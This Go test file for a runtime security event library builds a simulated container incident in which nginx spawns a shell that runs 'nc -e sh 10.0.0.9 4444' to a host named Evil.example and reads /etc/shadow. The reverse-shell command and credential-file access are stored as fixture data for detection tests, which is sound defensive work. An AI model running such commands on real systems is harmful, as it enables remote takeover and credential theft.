package event_test

import (
	"net/netip"
	"testing"

	"github.com/stoop-project/stoop/internal/event"
)

// scene is a small incident: in a container, nginx ran a shell that ran nc,
// which connected out and read /etc/shadow.
type scene struct {
	t      *event.Tables
	b      *event.Batch
	args   event.ArgWriter
	nginx  event.ProcID
	shell  event.ProcID
	nc     event.ProcID
	cont   event.ContID
	shadow event.ObjID
	conn   event.ObjID
}

const (
	second    = int64(1e9)
	sceneTime = 1_700_000_000 * second
)

func newScene() *scene {
	t := event.NewTables()
	s := &scene{t: t, b: event.NewBatch(t, 1, 16)}
	str := t.Strings.Add
	t.Host = str("node-1")
	s.cont = event.ContID(t.Conts.Add(event.Container{
		ID: str("4bcd77f18132"), FullID: str("4bcd77f18132" + "00"), Name: str("web"), Runtime: str("containerd"),
		Image: str("docker.io/shop/web:2.4.1"), Repo: str("docker.io/shop/web"), Tag: str("2.4.1"), Digest: str("sha256:aa"), ImageID: str("1b2c"),
		Pod: str("web-0"), PodUID: str("3e41"), Namespace: str("shop"), PodSandbox: str("0123456789abcdef"), PodLabels: str("app=web\x00tier=front\x00"),
		PodIP: str("10.1.2.3"), Labels: str("io.kubernetes.pod.name=web-0\x00"), Started: sceneTime - 60*second,
		Mounts: str("/etc:/host/etc:ro:false:rprivate\x00/proc/1:/host/proc::true:rslave\x00"),
		Flags:  event.ContSecurityKnown | event.ContPrivileged,
	}))
	proc := func(pid int32, parent event.ProcID, name, exe, path, args string, started int64) event.ProcID {
		return event.ProcID(t.Procs.Add(event.Proc{
			PID: pid, PPID: t.Proc(parent).PID, VPID: pid - 1000, VSID: 100, VPGID: pid - 1000, SID: 1100, PGID: pid, TTY: 34816, Start: sceneTime - started,
			Parent: parent, Cont: s.cont, Name: str(name), Exe: str(exe), ExePath: str(path), Args: str(args), Env: str("PATH=/bin\x00HOME=/root\x00"), Cwd: str("/srv/www/"),
			Cgroups: str("cpuset=/kubepods/a memory=/kubepods/b"), UID: 0, GID: 0, LoginUID: 0xffffffff, User: str("root"), Group: str("root"), Home: str("/root"), Shell: str("/bin/sh"),
			CapEff: 1<<0 | 1<<21, CapPerm: 1 << 0, ExeIno: 77, ExeCtime: sceneTime - 3*second, ExeMtime: sceneTime - 4*second, PidnsStart: sceneTime - 61*second,
			Flags: event.ExeUpperLayer | event.ExeWritable,
			Known: event.KnowPID | event.KnowPPID | event.KnowVPID | event.KnowSession | event.KnowVGroup | event.KnowTTY | event.KnowStart | event.KnowUID | event.KnowGID |
				event.KnowLoginUID | event.KnowCaps | event.KnowExeIno | event.KnowExeFlags | event.KnowPidns,
		}))
	}
	root := proc(1050, 0, "containerd-shim", "shim", "/usr/bin/shim", "", 70*second)
	s.nginx = proc(1100, root, "nginx", "nginx", "/usr/sbin/nginx", "-g\x00daemon off;\x00", 60*second)
	s.shell = proc(1200, s.nginx, "sh", "sh", "/bin/dash", "-c\x00nc -e sh 10.0.0.9 4444\x00", 2*second)
	s.nc = proc(1201, s.shell, "nc", "/usr/bin/nc", "/usr/bin/nc.traditional", "-e\x00sh\x0010.0.0.9\x004444\x00", second)
	s.shadow = event.ObjID(t.Objs.Add(event.Object{
		Kind: event.ObjFile, Name: str("/etc/shadow"), Raw: str("../../etc/shadow"), Dev: 8<<20 | 1, Ino: 42, Flags: event.ObjInode | event.ObjUpperLayer,
	}))
	s.conn = event.ObjID(t.Objs.Add(event.Object{
		Kind: event.ObjIPv4, L4: event.L4TCP, Role: event.RoleClient, Flags: event.ObjConnected,
		Local: event.EndpointOf(netip.MustParseAddr("10.1.2.3"), 37352), Remote: event.EndpointOf(netip.MustParseAddr("10.0.0.9"), 4444),
	}))
	t.Names.Learn(netip.MustParseAddr("10.0.0.9"), "Evil.example.")
	return s
}

// add appends an event of nc with its result, and returns its row. The
// arguments are those written to s.args.
func (s *scene) add(t testing.TB, typ string, res int64, fd int32, obj event.ObjID) event.Row {
	t.Helper()
	et, ok := event.TypeOf(typ)
	if !ok {
		t.Fatalf("no type %s", typ)
	}
	n := int64(s.b.Len())
	s.b.Append(event.Event{
		Time: sceneTime + n*1e6, Type: et, Bits: event.HasRes, CPU: 3, TID: 1201, Proc: s.nc, FD: fd, Obj: obj, Res: res, Dur: 12_345,
	}, s.args.Payload())
	s.args.Reset()
	return s.b.Row(s.b.Len() - 1)
}

// open appends an openat of /etc/shadow by a relative path.
func (s *scene) open(t testing.TB, flags uint64, res int64) event.Row {
	s.args.Int(-100)
	s.args.Str(s.t.Strings.Add("../../etc/shadow"))
	s.args.Uint(flags)
	s.args.Uint(0o644)
	return s.add(t, "openat", res, int32(max(res, -1)), s.shadow)
}

func (s *scene) connect(t testing.TB) event.Row {
	s.args.Obj(s.conn)
	s.args.Int(5)
	return s.add(t, "connect", 0, 5, s.conn)
}

// text reads a field as an output shows it; <NA> where it is missing.
func text(t testing.TB, r event.Row, field string) string {
	t.Helper()
	f, a, err := event.Fields.Parse(field)
	if err != nil {
		t.Fatal(err)
	}
	v, ok := f.Show(r, a)
	if !ok {
		return event.NotAvailable
	}
	return v.String()
}
